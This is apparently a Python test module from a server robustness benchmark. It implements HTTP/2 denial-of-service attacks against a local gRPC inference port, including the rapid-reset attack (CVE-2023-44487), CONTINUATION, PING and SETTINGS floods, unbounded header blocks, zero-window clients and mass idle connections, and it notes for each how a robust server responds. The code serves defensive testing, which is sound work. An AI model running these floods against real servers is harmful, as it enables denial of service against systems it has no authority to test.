"""The attacks on HTTP/2 itself (the gRPC port): floods of SETTINGS, PING, CONTINUATION, empty DATA
and reset streams, header blocks that never end or are made of table size updates, clients
that never read or never finish their preface, and many idle connections. Each returns the
answer as a short text and puts its figures in ctx.details."""
import asyncio
import collections
import socket
import struct
import time

import hpack

from .case import Ctx
from .h2 import (ACK, CANCEL, CONTINUATION, DATA, END_STREAM, GOAWAY, H2Conn, INFER, PING, PREFACE,
                 RST_STREAM, SETTINGS, S_INITIAL_WINDOW_SIZE, S_MAX_CONCURRENT_STREAMS, frame, goaway_text,
                 h2_error, parse_frames, settings_frame)
from .payloads import MIB, grpc_message, infer_request


async def settings_window_flood(ctx: Ctx) -> str:
    """2000 ModelInfer streams opened (HEADERS, no END_STREAM, no DATA) on one connection, then one
    SETTINGS frame as large as the server's MAX_FRAME_SIZE allows holding only
    INITIAL_WINDOW_SIZE entries (2730 at 16384 bytes), alternating 1 and 65535: each entry makes
    a naive server walk all its streams. A robust server caps its streams (REFUSED_STREAM past
    MAX_CONCURRENT_STREAMS) and applies only the last value, or calms the client down, and
    acknowledges quickly."""
    c = await ctx.h2()
    await c.wait_until(lambda: c.settings_acks >= 1 or c.dead(), ctx.deadline(3))
    sids = []
    for i in range(2000):
        sids.append(c.open_stream(INFER))
        if i % 200 == 199 and not await c.drain(ctx.deadline(5)):
            break
    await c.drain(ctx.deadline(5))
    await asyncio.sleep(0.2)
    entries = c.max_frame // 6
    payload = b"".join(struct.pack(">HI", S_INITIAL_WINDOW_SIZE, 1 if i % 2 == 0 else 65535)
                       for i in range(entries))
    acks, sent_at = c.settings_acks, time.monotonic()
    c.write(frame(SETTINGS, 0, 0, payload))
    await c.wait_until(lambda: c.settings_acks > acks or c.dead(), ctx.deadline(10))
    took = time.monotonic() - sent_at
    await c.wait_until(c.dead, ctx.deadline(1))
    ctx.details.update(streams_opened=len(sids), entries=entries, max_frame=c.max_frame,
                       server_max_concurrent_streams=c.server_settings.get(S_MAX_CONCURRENT_STREAMS),
                       ack_s=round(took, 3) if c.settings_acks > acks else None)
    ack = (f"SETTINGS ({entries} entries) ACK after {took:.2f} s" if c.settings_acks > acks
           else f"no SETTINGS ACK in {took:.1f} s")
    return f"{ack}; streams: {c.describe(sids, ctx.now())}"


async def hpack_table_size_flood(ctx: Ctx) -> str:
    """4 requests on one connection, each header block ~1 MB of HPACK dynamic-table-size updates
    to 0 (b"\\x20") followed by a valid ModelInfer header block, sent as HEADERS + CONTINUATIONs
    within the server's frame size, then an identity_fp32 request. A robust server limits a
    header block's size (GOAWAY or a 431-like refusal) or decodes it cheaply, and answers."""
    c = await ctx.h2()
    sids = []
    for _ in range(4):
        block = b"\x20" * 1_000_000 + hpack.Encoder().encode(c.request_headers(INFER))
        s = c.new_stream()
        sids.append(s.sid)
        c.write(c.header_frames(s.sid, block))
        if not await c.drain(ctx.deadline(10)):
            break
        await c.send_data(s.sid, grpc_message(infer_request()), end_stream=True, deadline=ctx.deadline(10))
    await c.wait_until(lambda: c.dead() or all(c.stream(s).finished for s in sids), ctx.deadline(10))
    return c.describe(sids, ctx.now())


async def ping_flood_no_read(ctx: Ctx) -> str:
    """2,000,000 PING frames on one connection whose receive buffer is small (SO_RCVBUF 4096) and
    which never reads: the server's PING ACKs pile up. Sending stops when the socket stays
    unwritable for 5 s. A robust server stops reading from (or closes) a client that does not
    read its answers, with bounded memory, and may answer GOAWAY ENHANCE_YOUR_CALM."""
    loop = asyncio.get_running_loop()
    sock = socket.socket()
    ctx.closers.append(sock.close)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    await asyncio.wait_for(loop.sock_connect(sock, ("127.0.0.1", ctx.grpc_port)), 5)
    await loop.sock_sendall(sock, PREFACE + settings_frame({}))
    await asyncio.sleep(0.1)
    await loop.sock_sendall(sock, frame(SETTINGS, ACK, 0))   # the server's SETTINGS, unread, acknowledged
    ping = frame(PING, 0, 0, b"hostile!")
    batch = memoryview(ping * 10_000)
    total, sent, how = 2_000_000 * len(ping), 0, "all sent"
    deadline = ctx.deadline(20)
    while sent < total:
        if sent % (len(batch) * 20) < len(batch):
            await asyncio.sleep(0)   # lets the runner stop it
        if time.monotonic() > deadline:
            how = "time budget ran out"
            break
        off = sent % len(batch)
        try:
            sent += sock.send(batch[off:off + min(len(batch) - off, total - sent)])
        except BlockingIOError:
            if not await _writable(loop, sock, 5.0):
                how = "the send blocked for 5 s"
                break
        except OSError as e:
            how = f"then the server {'reset' if isinstance(e, ConnectionResetError) else 'closed'} the connection"
            break
    took = ctx.now()
    # What came back, read for up to 2 s: PING ACKs, and a GOAWAY if there was one.
    acks, goaway, buf, closed = 0, None, bytearray(), False
    read_until = time.monotonic() + 2
    while time.monotonic() < read_until:
        try:
            data = await asyncio.wait_for(loop.sock_recv(sock, 1 << 16), read_until - time.monotonic())
        except (asyncio.TimeoutError, OSError):
            break
        if not data:
            closed = True
            break
        buf += data
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            if buf[3] == PING and buf[4] & ACK:
                acks += 1
            elif buf[3] == GOAWAY and goaway is None:
                goaway = h2_error(int.from_bytes(buf[13:17], "big"))
            del buf[:9 + length]
    pings = sent // len(ping)
    ctx.details.update(pings_sent=pings, send_s=round(took, 2), acks_read_in_2s=acks)
    return (f"{pings:,} PINGs sent in {took:.1f} s ({how})"
            + (f"; GOAWAY {goaway}" if goaway else "") + f"; then read {acks:,} PING ACKs in 2 s"
            + ("; connection closed" if closed else ""))


async def _writable(loop, sock: socket.socket, timeout: float) -> bool:
    fut = loop.create_future()
    loop.add_writer(sock.fileno(), lambda: fut.done() or fut.set_result(None))
    try:
        await asyncio.wait_for(fut, timeout)
        return True
    except asyncio.TimeoutError:
        return False
    finally:
        loop.remove_writer(sock.fileno())


async def unfinished_header_blocks(ctx: Ctx) -> str:
    """300 connections, each sending a HEADERS frame without END_HEADERS and CONTINUATION frames
    (each within the server's frame size) adding up to ~1 MB, never ending the block; held 5 s.
    A robust server caps a header block (GOAWAY, or closing) instead of buffering 300 MB."""
    filler = hpack.Encoder().encode([(":method", "POST"), (":path", INFER),
                                     ("x-filler", "a" * 1_000_000, True)], huffman=False)

    async def one() -> tuple[H2Conn | None, int, str]:
        try:
            c = await ctx.h2()
        except (OSError, asyncio.TimeoutError) as e:
            return None, 0, f"did not connect ({type(e).__name__})"
        s = c.new_stream()
        frames = c.header_frames(s.sid, filler, end_headers=False)
        sent = 0
        for i in range(0, len(frames), 1 << 16):
            c.write(frames[i:i + (1 << 16)])
            if not await c.drain(ctx.deadline(20)):
                break
            sent = min(i + (1 << 16), len(frames))
        return c, sent, ""

    results = await asyncio.gather(*(one() for _ in range(300)))
    await asyncio.sleep(max(0.0, min(5.0, ctx.t0 + ctx.budget_s - time.monotonic())))
    whats = collections.Counter()
    for c, sent, failed in results:
        if c is None:
            whats[failed] += 1
        elif c.events():
            whats[c.events().split(" at ")[0]] += 1
        else:
            whats["open after 5 s" + ("" if sent >= 1_000_000 else ", sending blocked")] += 1
    total = sum(sent for _, sent, _ in results)
    ctx.details.update(bytes_sent=total)
    return ", ".join(f"{n}× {what}" for what, n in whats.most_common(3)) + f"; {total / MIB:.0f} MiB sent"


async def idle_one_byte(ctx: Ctx) -> str:
    """Connects to the gRPC port, sends one byte of the client preface, then waits up to 40 s.
    A robust server closes a connection that does not finish its preface after a timeout."""
    reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", ctx.grpc_port), 5)
    ctx.closers.append(lambda: writer.transport.abort())
    writer.write(PREFACE[:1])
    received = 0
    try:
        async with asyncio.timeout(40):
            while data := await reader.read(1 << 16):
                received += len(data)
    except TimeoutError:
        return "held 40 s" + (f" ({received} bytes received)" if received else "")
    except (ConnectionError, OSError) as e:
        return f"connection reset after {ctx.now():.1f} s ({type(e).__name__})"
    return f"connection closed after {ctx.now():.1f} s" + (f" ({received} bytes received)" if received else "")


async def idle_after_settings(ctx: Ctx) -> str:
    """The full client preface and an empty SETTINGS, then nothing (not even the ACK of the
    server's SETTINGS nor of its PINGs), up to 40 s. A robust server closes it after an idle
    or SETTINGS timeout (GOAWAY SETTINGS_TIMEOUT, or a keepalive's GOAWAY)."""
    c = await ctx.h2(ack_settings=False, ack_pings=False)
    await c.wait_until(c.dead, ctx.deadline(40))
    ctx.details.update(pings_received=c.pings)
    if not c.dead():
        return "held 40 s" + (f" ({c.pings} PINGs received)" if c.pings else "")
    return c.events() + (f" ({c.pings} PINGs received)" if c.pings else "")


async def rapid_reset(ctx: Ctx) -> str:
    """10,000 streams in one burst, each a complete identity_fp32 ModelInfer (HEADERS, DATA with
    END_STREAM) immediately followed by RST_STREAM(CANCEL) (CVE-2023-44487). A robust server
    keeps the work bounded and, past a rate, answers GOAWAY ENHANCE_YOUR_CALM."""
    c = await ctx.h2()
    message = grpc_message(infer_request())
    opened, deadline, starved = 0, ctx.deadline(12), False
    while opened < 10_000 and not c.dead() and time.monotonic() < deadline:
        if c.conn_window < len(message) * 100:
            await c.wait_until(lambda: c.dead() or c.conn_window >= len(message) * 100, deadline)
            if c.conn_window < len(message) * 100:
                starved = not c.dead()
                break
        out = []
        for _ in range(100):
            s = c.new_stream()
            out.append(c.header_frames(s.sid, c.encoder.encode(c.request_headers(INFER))))
            out.append(frame(DATA, END_STREAM, s.sid, message))
            out.append(frame(RST_STREAM, 0, s.sid, struct.pack(">I", CANCEL)))
            s.reset_by_us = True
            c.conn_window -= len(message)
        c.write(b"".join(out))
        opened += 100
        if not await c.drain(deadline):
            break
    took = ctx.now()
    await c.wait_until(c.dead, ctx.deadline(1.5))
    answered = sum(1 for s in c.streams.values() if s.blocks)
    ctx.details.update(streams=opened, burst_s=round(took, 2), answered_after_reset=answered)
    return (f"{opened:,} streams opened and reset in {took:.1f} s"
            + ("; stopped: the server did not open the connection window again" if starved else "")
            + (f"; {c.events()}" if c.events() else "")
            + (f"; {answered} answered anyway" if answered else ""))


async def _flood(ctx: Ctx, c, frames: bytes, per_batch: int, batches: int) -> int:
    """`frames` (`per_batch` frames) written `batches` times, each once the last has drained;
    how many frames went."""
    sent = 0
    for _ in range(batches):
        c.write(frames)
        if not await c.drain(ctx.deadline(10)):
            break
        sent += per_batch
    return sent


async def continuation_flood(ctx: Ctx) -> str:
    """One HEADERS frame without END_HEADERS (a ModelInfer's headers), then 100,000 empty
    CONTINUATION frames, never ending the block. A robust server limits the frames of a header
    block and answers GOAWAY (ENHANCE_YOUR_CALM or PROTOCOL_ERROR) early."""
    c = await ctx.h2()
    s = c.new_stream()
    c.write(c.header_frames(s.sid, c.encoder.encode(c.request_headers(INFER)), end_headers=False))
    sent = await _flood(ctx, c, frame(CONTINUATION, 0, s.sid) * 10_000, 10_000, 10)
    took = ctx.now()
    await c.wait_until(c.dead, ctx.deadline(2))
    ctx.details.update(frames_sent=sent, send_s=round(took, 2))
    return (c.events() or "no answer") + f"; {sent:,} CONTINUATIONs sent in {took:.2f} s"


async def empty_data_flood(ctx: Ctx) -> str:
    """One ModelInfer stream opened (HEADERS), then 200,000 empty DATA frames on it (no
    END_STREAM). A robust server treats floods of empty frames as abuse (GOAWAY
    ENHANCE_YOUR_CALM) or takes them at no cost, answering others meanwhile."""
    c = await ctx.h2()
    sid = c.open_stream(INFER)
    sent = await _flood(ctx, c, frame(DATA, 0, sid) * 10_000, 10_000, 20)
    took = ctx.now()
    await c.wait_until(lambda: c.dead() or c.stream(sid).finished, ctx.deadline(2))
    ctx.details.update(frames_sent=sent, send_s=round(took, 2))
    return c.describe([sid], None) + f"; {sent:,} empty DATA frames sent in {took:.2f} s"


async def settings_flood(ctx: Ctx) -> str:
    """100,000 empty SETTINGS frames, reading the ACKs. A robust server acknowledges them at low
    cost, or limits unacknowledged SETTINGS with GOAWAY ENHANCE_YOUR_CALM."""
    c = await ctx.h2()
    await c.wait_until(lambda: c.settings_acks >= 1 or c.dead(), ctx.deadline(3))
    before = c.settings_acks
    sent = await _flood(ctx, c, frame(SETTINGS, 0, 0) * 5_000, 5_000, 20)
    await c.wait_until(lambda: c.dead() or c.settings_acks - before >= sent, ctx.deadline(5))
    acks = c.settings_acks - before
    ctx.details.update(sent=sent, acks=acks)
    return f"{acks:,} ACKs for {sent:,} SETTINGS in {ctx.now():.1f} s" + (f"; {c.events()}" if c.events() else "")


async def zero_window(ctx: Ctx) -> str:
    """A client whose SETTINGS_INITIAL_WINDOW_SIZE is 0 and which never sends WINDOW_UPDATE:
    100 identity_fp32 ModelInfer requests of 1 MiB inputs (sent within the server's windows),
    held 5 s. The server can send headers but no DATA. A robust server bounds what it holds for
    a client that does not read (it stops reading its requests, or times them out)."""
    c = await ctx.h2(settings={S_INITIAL_WINDOW_SIZE: 0}, window_updates=False)
    message = grpc_message(infer_request(elements=MIB // 4))
    sids, deadline = [], ctx.deadline(10)
    for _ in range(100):
        if c.dead() or time.monotonic() > deadline:
            break
        sid = c.open_stream(INFER)
        sids.append(sid)
        if await c.send_data(sid, message, end_stream=True, deadline=deadline) < len(message):
            break
    await asyncio.sleep(max(0.0, min(5.0, ctx.t0 + ctx.budget_s - time.monotonic())))
    heads = sum(1 for sid in sids if c.stream(sid).blocks)
    ctx.details.update(requests_sent=len(sids), response_headers=heads)
    return (f"{len(sids)} requests of 1 MiB sent, {heads} response headers" + (f"; {c.events()}" if c.events() else "")
            + (f"; {c.describe(sids, None)}" if not heads else ""))


async def many_idle_connections(ctx: Ctx) -> str:
    """5000 TCP connections to the gRPC port (the benchmark's RLIMIT_NOFILE raised to its hard
    limit), each sending the preface and SETTINGS, then idle 5 s. A robust server keeps serving
    others (it may cap connections, or close idle ones)."""
    sem = asyncio.Semaphore(200)
    closed_at: list[float] = []
    goaways = collections.Counter()
    failures = collections.Counter()

    async def one() -> bool:
        async with sem:
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", ctx.grpc_port), 5)
            except (OSError, asyncio.TimeoutError) as e:
                failures[type(e).__name__] += 1
                return False
        # The closer holds the writer: a StreamWriter that is collected closes its connection.
        ctx.closers.append(lambda: writer.transport.abort())
        writer.write(PREFACE + settings_frame({}))

        async def watch():
            """Reads what the server sends until it closes: its SETTINGS, a GOAWAY perhaps."""
            got = bytearray()
            try:
                while data := await reader.read(1 << 16):
                    got += data[:4096]
            except (ConnectionError, OSError):
                pass
            closed_at.append(ctx.now())
            for ftype, _, _, payload in parse_frames(got):
                if ftype == GOAWAY and len(payload) >= 8:
                    goaways[goaway_text(payload)] += 1
        ctx.closers.append(asyncio.ensure_future(watch()).cancel)
        return True

    connected = sum(await asyncio.gather(*(one() for _ in range(5000))))
    connect_s = ctx.now()
    await asyncio.sleep(max(0.0, min(5.0, ctx.t0 + ctx.budget_s - time.monotonic())))
    closed = len(closed_at)
    ctx.details.update(connected=connected, connect_s=round(connect_s, 1), closed_by_server=closed,
                       goaways=dict(goaways), failures=dict(failures))
    text = f"{connected} of 5000 connected in {connect_s:.1f} s"
    if failures:
        text += " (failed: " + ", ".join(f"{n}× {k}" for k, n in failures.items()) + ")"
    if not closed:
        return text + "; all held 5 s"
    return (text + f"; {closed} closed by the server, first at {min(closed_at):.1f} s, last at "
            f"{max(closed_at):.1f} s" + "".join(f"; {n}× {g}" for g, n in goaways.most_common(2)))
